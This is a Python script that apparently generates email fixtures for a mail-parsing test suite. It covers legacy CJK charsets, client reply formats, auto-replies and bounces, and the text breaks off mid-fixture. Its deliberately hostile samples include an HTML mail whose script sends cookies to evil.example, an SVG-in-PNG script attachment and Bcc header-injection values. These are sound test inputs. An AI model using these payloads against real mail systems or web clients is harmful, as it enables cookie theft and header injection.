"""The .eml corpus for the mail tests.

``python tests/mail/make_fixtures.py`` rewrites the committed small fixtures in
``tests/mail/fixtures/`` (they are generated because many must hold exact Big5, CP932, GBK or
CP949 bytes that no editor should be trusted with). The large fixtures (a 12 MB attachment, a
500 KB single-line body, multipart nested 30 deep) are built at test time by the functions at
the bottom and never committed.
"""

from __future__ import annotations

import base64
import quopri
import sys
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent / "fixtures"
SUPPORT = "support@sakura-tea.example.jp"
OUR_ID = "<1714521600.4f2a9c0e7b1d5a3c@sakura-tea.example.jp>"
OUR_ID_2 = "<1714608000.9e8d7c6b5a4f3e2d@sakura-tea.example.jp>"
DATE = "Wed, 01 May 2024 18:22:05 +0800"


def b64(text: str, charset: str) -> str:
    return base64.b64encode(text.encode(charset)).decode("ascii")


def word(text: str, charset: str = "utf-8") -> str:
    """An RFC 2047 B encoded word."""
    return f"=?{charset}?B?{b64(text, charset)}?="


def qp(text: str, charset: str = "utf-8") -> bytes:
    return quopri.encodestring(text.replace("\n", "\r\n").encode(charset))


def mail(headers: list[str], body: bytes | str) -> bytes:
    head = "\r\n".join(headers).encode("ascii") + b"\r\n\r\n"
    data = body.encode("utf-8") if isinstance(body, str) else body
    return head + data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def received(host: str = "mx.example.net") -> str:
    return (
        f"Received: from {host} ({host} [192.0.2.10])\r\n\tby mx.sakura-tea.example.jp "
        f"with ESMTPS id 4VTxyz; {DATE}"
    )


def corpus() -> dict[str, bytes]:
    c: dict[str, bytes] = {}

    c["big5_outlook.eml"] = mail(
        [
            received("mail-tw.example.com"),
            f"From: {word('陳大文', 'big5')} <chen.dawen@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('訂單 #A1029 還沒有收到', 'big5')}",
            f"Date: {DATE}",
            "Message-ID: <000001da9b8e$5c2f1a40$148d4ec0$@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="big5"',
            "Content-Transfer-Encoding: base64",
            "X-Mailer: Microsoft Outlook 16.0",
            "Thread-Index: AdqbjlwvGkBUjU7AQ2uYmW3pJzU0Ag==",
            "Content-Language: zh-tw",
        ],
        b64(
            "您好：\n\n我在四月二十日訂購的抹茶禮盒（訂單 #A1029）到現在還沒有收到，"
            "請問什麼時候會寄出？\n\n謝謝\n陳大文\n",
            "big5",
        ),
    )

    c["big5_hkscs_hongkong.eml"] = mail(
        [
            received(),
            "From: Wong Ka Yan <kayan.wong@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('查詢運費', 'big5hkscs')}",
            f"Date: {DATE}",
            "Message-ID: <hk.20240501.7781@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=big5",
            "Content-Transfer-Encoding: 8bit",
        ],
        "你好，想問下寄去香港嘅運費係幾多㗎？啲茶葉有冇得平啲？\n唔該！\n".encode("big5hkscs"),
    )

    iso_body = "先日注文した抹茶が届きません。\n確認をお願いします。\n\n田中 花子\n"
    c["iso2022jp_no_charset.eml"] = mail(
        [
            received(),
            "From: Tanaka Hanako <hanako.tanaka@example.net>",
            f"To: {SUPPORT}",
            f"Subject: {word('注文の件', 'iso-2022-jp')}",
            f"Date: {DATE}",
            "Message-ID: <20240501182205.AB12@example.net>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
            "Content-Transfer-Encoding: 7bit",
            "X-Mailer: Becky! ver. 2.75.01",
        ],
        iso_body.encode("iso2022_jp"),
    )

    c["iso2022jp_no_mime.eml"] = (
        b"From: hanako.tanaka@example.net\r\nTo: " + SUPPORT.encode() + b"\r\n"
        b"Subject: " + "配送について".encode("iso2022_jp") + b"\r\n"
        b"Date: "
        + DATE.encode()
        + b"\r\nMessage-ID: <old.client.1@example.net>\r\n\r\n"
        + "住所を変更したいのですが、まだ間に合いますか。\r\n".encode("iso2022_jp")
    )

    c["shift_jis_cp932.eml"] = mail(
        [
            received(),
            f"From: {word('鈴木 一郎', 'shift_jis')} <ichiro@example.org>",
            f"To: {SUPPORT}",
            f"Subject: {word('返品について①', 'cp932')}",
            f"Date: {DATE}",
            "Message-ID: <sjis.0501.1@example.org>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=Shift_JIS",
            "Content-Transfer-Encoding: 8bit",
        ],
        "①茶碗が割れていました。\n②交換か返金をお願いできますか～？\n".encode("cp932"),
    )

    c["gb2312_foxmail.eml"] = mail(
        [
            received(),
            f"From: {word('王喆', 'gbk')} <wang.zhe@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('关于发货时间', 'gb2312')}",
            f"Date: {DATE}",
            "Message-ID: <202405011822055127381@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="gb2312"',
            "Content-Transfer-Encoding: base64",
            "X-Mailer: Foxmail 7.2.25.228[cn]",
        ],
        b64(
            "您好！\n\n我是王喆，想问一下订单什么时候发货？朱镕基同款茶杯还有货吗？\n\n谢谢！\n",
            "gbk",
        ),
    )

    c["ks_c_5601_outlook.eml"] = mail(
        [
            received(),
            f"From: {word('김민준', 'cp949')} <minjun.kim@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('주문 취소 요청', 'ks_c_5601-1987')}".replace(
                "ks_c_5601-1987", "ks_c_5601-1987"
            ),
            f"Date: {DATE}",
            "Message-ID: <005a01da9b8f$aa11bb22$cc33dd44$@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="ks_c_5601-1987"',
            "Content-Transfer-Encoding: base64",
            "X-Mailer: Microsoft Outlook 16.0",
        ],
        b64(
            "안녕하세요.\n어제 주문한 녹차를 취소하고 싶습니다. "
            "똠얌 맛 과자도 같이 취소해 주세요.\n"
            "감사합니다.\n",
            "cp949",
        ),
    )

    c["euc_kr_naver.eml"] = mail(
        [
            received("mail.naver.example"),
            "From: Lee Seoyeon <seoyeon@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('배송 문의', 'euc-kr')}",
            f"Date: {DATE}",
            "Message-ID: <e1b2c3d4.naver@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=euc-kr",
            "Content-Transfer-Encoding: 8bit",
        ],
        "배송이 언제 되는지 알려 주세요.\n".encode("euc-kr"),
    )

    c["raw_8bit_headers_utf8.eml"] = (
        b"From: =?utf-8?B?" + base64.b64encode("Nguyễn Văn An".encode()) + b"?= <an@example.com>"
        b"\r\nTo: "
        + SUPPORT.encode()
        + b"\r\nSubject: "
        + "Đơn hàng chưa đến".encode()
        + b"\r\nDate: "
        + DATE.encode()
        + b"\r\nMessage-ID: <raw8.utf8@example.com>\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n"
        + "Chào shop, đơn hàng của tôi vẫn chưa đến. Cảm ơn!\r\n".encode()
    )

    c["raw_8bit_headers_big5.eml"] = (
        b"From: "
        + "林小美".encode("big5")
        + b" <meimei.lin@example.com>\r\nTo: "
        + SUPPORT.encode()
        + b"\r\nSubject: "
        + "請問有沒有折扣".encode("big5")
        + b"\r\nDate: "
        + DATE.encode()
        + b"\r\nMessage-ID: <raw8.big5@example.com>\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=big5\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + "買兩盒有折扣嗎？\r\n".encode("big5")
    )

    subject = "抹茶のお届け日について".encode()
    c["rfc2047_split_multibyte.eml"] = mail(
        [
            received(),
            "From: Ken <ken@example.com>",
            f"To: {SUPPORT}",
            "Subject: =?UTF-8?B?"
            + base64.b64encode(subject[:10]).decode()
            + "?=\r\n =?UTF-8?B?"
            + base64.b64encode(subject[10:]).decode()
            + "?=",
            f"Date: {DATE}",
            "Message-ID: <split.words@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "よろしくお願いします。\n".encode(),
    )

    c["rfc2231_filename.eml"] = mail(
        [
            received(),
            f"From: {word('Hans Müller')} <hans@example.de>",
            f"To: {SUPPORT}",
            "Subject: Rechnung",
            f"Date: {DATE}",
            "Message-ID: <rfc2231.hans@example.de>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b1"',
        ],
        "--b1\nContent-Type: text/plain; charset=utf-8\n\nAnbei die Rechnung.\n"
        "--b1\nContent-Type: application/pdf\n"
        "Content-Disposition: attachment;\n filename*0*=UTF-8''Rechnung%20f%C3%BCr%20;\n"
        " filename*1*=%E6%B3%A8%E6%96%87.pdf\nContent-Transfer-Encoding: base64\n\n"
        + base64.b64encode(b"%PDF-1.4\n% fake invoice\n").decode()
        + "\n--b1--\n",
    )

    c["rfc2047_filename_outlook.eml"] = mail(
        [
            received(),
            "From: Chen <chen.dawen@example.com>",
            f"To: {SUPPORT}",
            "Subject: photo",
            f"Date: {DATE}",
            "Message-ID: <rfc2047.name@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b2"',
        ],
        "--b2\nContent-Type: text/plain; charset=utf-8\n\n破損の写真です。\n--b2\n"
        f'Content-Type: image/png; name="{word("破損写真.png")}"\n'
        f'Content-Disposition: attachment; filename="{word("破損写真.png")}"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32).decode()
        + "\n--b2--\n",
    )

    gmail_plain = (
        "Hi,\n\nI still haven't received the tracking number. Could you check again?\n\n"
        "Thanks,\nEmily\n\nOn Tue, Apr 30, 2024 at 11:00 AM Sakura Tea Support <\n"
        f"{SUPPORT}> wrote:\n\n> Dear Emily,\n>\n> Your order has shipped.\n>\n"
        "> Best regards,\n> Sakura Tea\n>\n"
    )
    gmail_html = (
        '<div dir="ltr">Hi,<div><br></div><div>I still haven\'t received the tracking number.'
        " Could you check again?</div><div><br></div><div>Thanks,</div><div>Emily</div></div>"
        '<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Apr 30, 2024 '
        f'at 11:00 AM Sakura Tea Support &lt;<a href="mailto:{SUPPORT}">{SUPPORT}</a>&gt; '
        'wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">'
        "Dear Emily,<br><br>Your order has shipped.<br></blockquote></div>\n"
    )
    c["gmail_reply_quoted.eml"] = mail(
        [
            received("mail-sor-f41.google.example"),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: Sakura Tea Support <{SUPPORT}>",
            "Subject: Re: Your order A1031 [#KH-7Q2M4XKDAA]",
            f"Date: {DATE}",
            "Message-ID: <CAF3x9+Yq2kP1t@mail.example.com>",
            f"In-Reply-To: {OUR_ID}",
            f"References: <CAF3x9+first@mail.example.com> {OUR_ID}",
            "MIME-Version: 1.0",
            'Content-Type: multipart/alternative; boundary="000000000000a1b2"',
        ],
        '--000000000000a1b2\nContent-Type: text/plain; charset="UTF-8"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        + qp(gmail_plain).decode()
        + '\n--000000000000a1b2\nContent-Type: text/html; charset="UTF-8"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        + qp(gmail_html).decode()
        + "\n--000000000000a1b2--\n",
    )

    c["gmail_html_only_reply.eml"] = mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Re: Your order A1031",
            f"Date: {DATE}",
            "Message-ID: <CAF3x9+htmlonly@mail.example.com>",
            f"In-Reply-To: {OUR_ID}",
            "MIME-Version: 1.0",
            'Content-Type: text/html; charset="UTF-8"',
            "Content-Transfer-Encoding: quoted-printable",
        ],
        qp(gmail_html),
    )

    c["outlook_reply.eml"] = mail(
        [
            received("outbound.protection.outlook.example"),
            "From: Sophie Martin <sophie.martin@example.fr>",
            f"To: {SUPPORT}",
            "Subject: RE: Votre commande A1040",
            f"Date: {DATE}",
            "Message-ID: <PR3P193MB0891A1B2C3D4@PR3P193MB0891.EURP193.PROD.OUTLOOK.example>",
            f"In-Reply-To: {OUR_ID_2}",
            f"References: {OUR_ID_2}",
            "Thread-Topic: Votre commande",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="iso-8859-1"',
            "Content-Transfer-Encoding: quoted-printable",
            "Content-Language: fr-FR",
        ],
        qp(
            "Bonjour,\n\nLe colis est arrivé mais il manque la théière.\n\nCordialement,\n"
            "Sophie\n\n________________________________\nDe : Sakura Tea Support <"
            f"{SUPPORT}>\nEnvoyé : mardi 30 avril 2024 11:00\nÀ : Sophie Martin\nObjet : "
            "Votre commande A1040\n\nBonjour Sophie,\nVotre commande est partie.\n",
            "iso-8859-1",
        ),
    )

    c["outlook_original_message.eml"] = mail(
        [
            received(),
            "From: Carlos Ruiz <carlos.ruiz@example.es>",
            f"To: {SUPPORT}",
            "Subject: RE: Pedido A1050",
            f"Date: {DATE}",
            "Message-ID: <000c01da9b90$11223344$55667788$@example.es>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="utf-8"',
            "Content-Transfer-Encoding: 8bit",
        ],
        "Hola, ¿me pueden enviar la factura?\n\nGracias.\n\n-----Original Message-----\n"
        f"From: Sakura Tea <{SUPPORT}>\nSent: Tuesday, April 30, 2024 11:00 AM\n"
        "To: Carlos Ruiz\nSubject: Pedido A1050\n\nHola Carlos, su pedido ha salido.\n".encode(),
    )

    c["japanese_thunderbird_reply.eml"] = mail(
        [
            received(),
            "From: Tanaka Hanako <hanako.tanaka@example.net>",
            f"To: {SUPPORT}",
            f"Subject: {word('Re: 注文の件')}",
            f"Date: {DATE}",
            "Message-ID: <b7e1c2d3-tb@example.net>",
            f"In-Reply-To: {OUR_ID}",
            "User-Agent: Mozilla Thunderbird",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=UTF-8; format=flowed",
            "Content-Transfer-Encoding: 8bit",
        ],
        (
            "ご連絡ありがとうございます。\n届いたら改めて連絡します。\n\n"
            "Sakura Tea サポートさんは書きました:\n> 田中様\n>\n> 本日発送いたしました。\n"
        ).encode(),
    )

    c["japanese_gmail_reply.eml"] = mail(
        [
            received(),
            "From: Sato Yui <yui.sato@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('Re: 返品について')}",
            f"Date: {DATE}",
            "Message-ID: <CAJpgmail+ja@mail.example.com>",
            f"In-Reply-To: {OUR_ID}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 8bit",
        ],
        (
            "承知しました。返送用の住所を教えてください。\n\n"
            f"2024年4月30日(火) 11:00 Sakura Tea サポート <{SUPPORT}>:\n\n"
            "> 佐藤様\n> 返品を承りました。\n"
        ).encode(),
    )

    c["chinese_qq_reply.eml"] = mail(
        [
            received("smtpbg.qq.example"),
            'From: "=?utf-8?B?' + b64("李娜", "utf-8") + '?=" <li.na@example.com>',
            f"To: {SUPPORT}",
            f"Subject: {word('回复：发货通知')}",
            f"Date: {DATE}",
            "Message-ID: <tencent_A1B2C3D4E5@qq.example.com>",
            f"In-Reply-To: {OUR_ID}",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="gb18030"',
            "Content-Transfer-Encoding: base64",
        ],
        b64(
            "收到了，谢谢！\n\n\n------------------&nbsp;原始邮件&nbsp;------------------\n".replace(
                "&nbsp;", " "
            )
            + '发件人: "Sakura Tea"<'
            + SUPPORT
            + ">;\n"
            '发送时间: 2024年4月30日(星期二) 上午11:00\n收件人: "李娜";\n主题: 发货通知\n\n'
            "您的订单已发货。\n",
            "gb18030",
        ),
    )

    c["chinese_netease_reply.eml"] = mail(
        [
            received("m15.mail.163.example"),
            "From: zhou.jie <zhou.jie@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('Re:Re: 退款进度')}",
            f"Date: {DATE}",
            "Message-ID: <3f2a1b0c.8d7e.18f2@example.com>",
            f"In-Reply-To: {OUR_ID}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=GBK",
            "Content-Transfer-Encoding: base64",
        ],
        b64(
            '请问退款什么时候到账？\n\n\n\n\n在 2024-04-30 11:00:00，"Sakura Tea" <'
            f"{SUPPORT}> 写道：\n> 您好，退款已处理。\n",
            "gbk",
        ),
    )

    c["korean_naver_reply.eml"] = mail(
        [
            received(),
            "From: Park Jiho <jiho.park@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('RE: 배송 안내')}",
            f"Date: {DATE}",
            "Message-ID: <naver.reply.77@example.com>",
            f"In-Reply-To: {OUR_ID}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 8bit",
        ],
        (
            "잘 받았습니다. 감사합니다!\n\n"
            f"2024년 4월 30일 (화) 오전 11:00, Sakura Tea <{SUPPORT}>님이 작성:\n"
            "> 박지호 고객님, 상품이 발송되었습니다.\n"
        ).encode(),
    )

    c["apple_mail_reply.eml"] = mail(
        [
            received(),
            "From: Lucas Almeida <lucas.almeida@example.com.br>",
            f"To: {SUPPORT}",
            "Subject: Re: Pedido A1060",
            f"Date: {DATE}",
            "Message-ID: <8D3C2B1A-5E6F-4A7B-9C8D-0E1F2A3B4C5D@example.com.br>",
            f"In-Reply-To: {OUR_ID}",
            f"References: {OUR_ID}",
            "X-Mailer: iPhone Mail (21E236)",
            "Mime-Version: 1.0 (1.0)",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: quoted-printable",
        ],
        qp(
            "Obrigado! Vou aguardar.\n\nEnviado do meu iPhone\n\n> Em 30 de abr. de 2024, à(s) "
            f"11:00, Sakura Tea <{SUPPORT}> escreveu:\n>\n> Olá Lucas, seu pedido saiu.\n"
        ),
    )

    c["iphone_signature.eml"] = mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Gift wrapping",
            f"Date: {DATE}",
            "Message-ID: <iphone.sig.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=us-ascii",
        ],
        "Do you offer gift wrapping for the tea set?\n\nSent from my iPhone\n",
    )

    c["signature_dashdash.eml"] = mail(
        [
            received(),
            "From: Budi Santoso <budi@example.co.id>",
            f"To: {SUPPORT}",
            "Subject: Pertanyaan produk",
            f"Date: {DATE}",
            "Message-ID: <sig.dash.1@example.co.id>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "Halo, apakah teh ini mengandung gula?\n\nTerima kasih\n-- \nBudi Santoso\n"
        "PT Contoh Makmur | +62 21 555 0100\n",
    )

    c["html_only.eml"] = mail(
        [
            received(),
            "From: Marie Dubois <marie.dubois@example.fr>",
            f"To: {SUPPORT}",
            f"Subject: {word('Question sur le thé')}",
            f"Date: {DATE}",
            "Message-ID: <html.only.1@example.fr>",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-8",
            "Content-Transfer-Encoding: 8bit",
        ],
        (
            b"<html><head><style>p {color:red}</style></head><body><p>Bonjour,</p>"
            b"<p>Le th&eacute; <b>sencha</b> est-il bio&nbsp;?</p><ul><li>200 g</li><li>500 g"
            b"</li></ul><p>Merci&nbsp;!</p></body></html>\n"
        ),
    )

    hostile = (
        '<html><body onload="steal()"><p>Hello, I want a refund.</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<img src="x" onerror="alert(1)">'
        '<a href="javascript:alert(document.domain)">my order</a>'
        '<a href="jav&#x09;ascript:alert(2)">tracking</a>'
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(3)</script>'
        '<circle r="5" onclick="alert(4)"/></svg>'
        '<iframe src="https://evil.example/"></iframe>'
        '<form action="https://evil.example/"><input name="pw"></form>'
        '<div style="background:url(javascript:alert(5))">styled</div>'
        '<img src="https://tracker.example/pixel.gif" width="1" height="1">'
        "<!-- <script>alert(6)</script> --></body></html>\n"
    )
    c["hostile_html.eml"] = mail(
        [
            received(),
            "From: Mallory <mallory@example.com>",
            f"To: {SUPPORT}",
            "Subject: Refund please",
            f"Date: {DATE}",
            "Message-ID: <hostile.html.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-8",
        ],
        hostile.encode(),
    )

    svg = (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        "<script>alert(document.cookie)</script></svg>"
    )
    c["hostile_svg_attachment.eml"] = mail(
        [
            received(),
            "From: Mallory <mallory@example.com>",
            f"To: {SUPPORT}",
            "Subject: See picture",
            f"Date: {DATE}",
            "Message-ID: <hostile.svg.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="s"',
        ],
        "--s\nContent-Type: text/plain\n\nPicture attached.\n--s\n"
        'Content-Type: image/png; name="photo.png"\nContent-Disposition: attachment; '
        'filename="photo.png"\nContent-Transfer-Encoding: base64\n\n'
        + base64.b64encode(svg.encode()).decode()
        + "\n--s--\n",
    )

    c["header_injection_subject.eml"] = mail(
        [
            received(),
            "From: Mallory <mallory@example.com>",
            f"To: {SUPPORT}",
            "Subject: =?utf-8?Q?Order_question=0D=0ABcc:_victim@example.org=0D=0A=0D=0AHi?=",
            f"Date: {DATE}",
            "Message-ID: <inject.subject@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "Please answer.\n",
    )

    c["header_injection_name.eml"] = mail(
        [
            received(),
            "From: =?utf-8?B?"
            + base64.b64encode(b"Eve\r\nBcc: victim@example.org\r\nX-Evil: 1").decode()
            + "?= <eve@example.com>",
            f"To: {SUPPORT}",
            "Subject: hello",
            f"Date: {DATE}",
            "Message-ID: <inject.name@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "Hi there.\n",
    )

    c["auto_reply_auto_submitted.eml"] = mail(
        [
            received(),
            "Return-Path: <emily.carter@example.com>",
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Out of office: Re: Your order A1031",
            f"Date: {DATE}",
            "Message-ID: <ooo.1@example.com>",
            f"In-Reply-To: {OUR_ID}",
            "Auto-Submitted: auto-replied",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "I am on holiday until 10 May with limited access to email.\n",
    )

    c["auto_reply_x_autoreply.eml"] = mail(
        [
            received(),
            "From: Wang Zhe <wang.zhe@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('自动回复: 关于发货时间')}",
            f"Date: {DATE}",
            "Message-ID: <autoreply.2@example.com>",
            "X-Autoreply: yes",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "您好，我正在休假，回来后回复您。\n".encode(),
    )

    c["auto_reply_exchange_oof.eml"] = mail(
        [
            received(),
            "From: Sophie Martin <sophie.martin@example.fr>",
            f"To: {SUPPORT}",
            "Subject: Automatic reply: Votre commande",
            f"Date: {DATE}",
            "Message-ID: <oof.exchange.3@example.fr>",
            "X-Auto-Response-Suppress: All",
            "X-MS-Exchange-Inbox-Rules-Loop: sophie.martin@example.fr",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "Je suis absente du bureau.\n",
    )

    c["list_mail.eml"] = mail(
        [
            received(),
            "From: Tea Lovers <tea-lovers@lists.example.org>",
            f"To: {SUPPORT}",
            "Subject: [tea-lovers] Weekly digest",
            f"Date: {DATE}",
            "Message-ID: <list.digest.44@lists.example.org>",
            "List-Id: Tea Lovers <tea-lovers.lists.example.org>",
            "List-Unsubscribe: <mailto:tea-lovers-leave@lists.example.org>",
            "Precedence: list",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "This week: oolong.\n",
    )

    c["bulk_newsletter.eml"] = mail(
        [
            received(),
            "From: Deals <deals@shop.example.com>",
            f"To: {SUPPORT}",
            "Subject: 50% off everything",
            f"Date: {DATE}",
            "Message-ID: <bulk.55@shop.example.com>",
            "Precedence: bulk",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "Huge sale!\n",
    )

    c["x_loop_ours.eml"] = mail(
        [
            received(),
            "From: Forwarder <fwd@example.com>",
            f"To: {SUPPORT}",
            "Subject: Re: We have received your message",
            f"Date: {DATE}",
            "Message-ID: <loop.1@example.com>",
            "X-Loop: kakehashi",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "We have received your message.\n",
    )

    c["from_our_address.eml"] = mail(
        [
            received(),
            f"From: Sakura Tea Support <{SUPPORT}>",
            f"To: {SUPPORT}",
            "Subject: test",
            f"Date: {DATE}",
            "Message-ID: <self.1@sakura-tea.example.jp>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "Internal test.\n",
    )

    original = (
        f"From: Sakura Tea Support <{SUPPORT}>\nTo: nobody@example.com\n"
        f"Subject: Re: Your order\nMessage-ID: {OUR_ID}\nDate: {DATE}\n\n"
        "Hello, your order has shipped.\n"
    )
    c["bounce_dsn_postfix.eml"] = mail(
        [
            "Return-Path: <>",
            received(),
            "From: MAILER-DAEMON@mx.example.net (Mail Delivery System)",
            f"To: {SUPPORT}",
            "Subject: Undelivered Mail Returned to Sender",
            f"Date: {DATE}",
            "Message-ID: <20240501102205.1A2B3C@mx.example.net>",
            "Auto-Submitted: auto-replied",
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=delivery-status; boundary="dsn1"',
        ],
        "--dsn1\nContent-Type: text/plain\n\nI'm sorry to have to inform you that your message "
        "could not be delivered.\n\n<nobody@example.com>: host mx.example.com said: 550 5.1.1 "
        "User unknown\n\n--dsn1\nContent-Type: message/delivery-status\n\n"
        "Reporting-MTA: dns; mx.example.net\nArrival-Date: Wed,  1 May 2024 10:22:03 +0000\n\n"
        "Final-Recipient: rfc822; nobody@example.com\nOriginal-Recipient: rfc822;nobody@example."
        "com\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.example.com\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.com>: Recipient address rejected:\n"
        " User unknown in local recipient table\n\n--dsn1\nContent-Type: message/rfc822\n\n"
        + original
        + "\n--dsn1--\n",
    )

    c["bounce_dsn_headers_only.eml"] = mail(
        [
            "Return-Path: <>",
            received(),
            "From: postmaster@outlook.example",
            f"To: {SUPPORT}",
            "Subject: Undeliverable: Re: Votre commande A1040",
            f"Date: {DATE}",
            "Message-ID: <ndr.2@outlook.example>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=delivery-status; boundary="ndr"',
        ],
        "--ndr\nContent-Type: text/plain; charset=us-ascii\n\nDelivery has failed to these "
        "recipients or groups:\n\nsophie.old@example.fr\nThe email address wasn't found.\n\n"
        "--ndr\nContent-Type: message/delivery-status\n\nReporting-MTA: dns;outlook.example\n\n"
        "Final-Recipient: rfc822;sophie.old@example.fr\nAction: failed\nStatus: 5.1.10\n"
        "Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound\n\n"
        "--ndr\nContent-Type: text/rfc822-headers\n\n"
        f"From: Sakura Tea Support <{SUPPORT}>\nTo: sophie.old@example.fr\n"
        f"Subject: Re: Votre commande A1040\nMessage-ID: {OUR_ID_2}\n\n--ndr--\n",
    )

    c["bounce_delayed.eml"] = mail(
        [
            "Return-Path: <>",
            received(),
            "From: Mail Delivery Subsystem <mailer-daemon@example.net>",
            f"To: {SUPPORT}",
            "Subject: Delivery Status Notification (Delay)",
            f"Date: {DATE}",
            "Message-ID: <delay.3@example.net>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=delivery-status; boundary="d"',
        ],
        "--d\nContent-Type: text/plain\n\nDelivery incomplete; will retry.\n--d\n"
        "Content-Type: message/delivery-status\n\nReporting-MTA: dns; example.net\n\n"
        "Final-Recipient: rfc822; slow@example.com\nAction: delayed\nStatus: 4.4.1\n\n"
        f"--d\nContent-Type: text/rfc822-headers\n\nMessage-ID: {OUR_ID}\n\n--d--\n",
    )

    c["bounce_plain_qmail.eml"] = mail(
        [
            "Return-Path: <>",
            received(),
            "From: MAILER-DAEMON@mail.example.org",
            f"To: {SUPPORT}",
            "Subject: failure notice",
            f"Date: {DATE}",
            "Message-ID: <qmail.4@mail.example.org>",
        ],
        "Hi. This is the qmail-send program at mail.example.org.\nI'm afraid I wasn't able to "
        "deliver your message to the following addresses.\n\n<gone@example.org>:\nSorry, no "
        "mailbox here by that name. (#5.1.1)\n\n--- Below this line is a copy of the message."
        f"\n\nReturn-Path: <{SUPPORT}>\nMessage-ID: {OUR_ID_2}\nSubject: Re: hello\n\nHello.\n",
    )

    c["read_receipt_mdn.eml"] = mail(
        [
            "Return-Path: <>",
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Read: Your order A1031",
            f"Date: {DATE}",
            "Message-ID: <mdn.5@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=disposition-notification; boundary="m"',
        ],
        "--m\nContent-Type: text/plain\n\nYour message was read.\n--m\n"
        "Content-Type: message/disposition-notification\n\nFinal-Recipient: rfc822; "
        f"emily.carter@example.com\nOriginal-Message-ID: {OUR_ID}\nDisposition: "
        "manual-action/MDN-sent-manually; displayed\n\n--m--\n",
    )

    c["broken_mime_no_end.eml"] = mail(
        [
            received(),
            "From: Broken Client <broken@example.com>",
            f"To: {SUPPORT}",
            "Subject: broken",
            f"Date: {DATE}",
            "Message-ID: <broken.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="never-closed"',
        ],
        "--never-closed\nContent-Type: text/plain; charset=utf-8\n\nMy order never arrived."
        "\n--never-closed\nContent-Type: application/pdf\n\n%PDF-1.4 truncated",
    )

    c["broken_mime_wrong_boundary.eml"] = mail(
        [
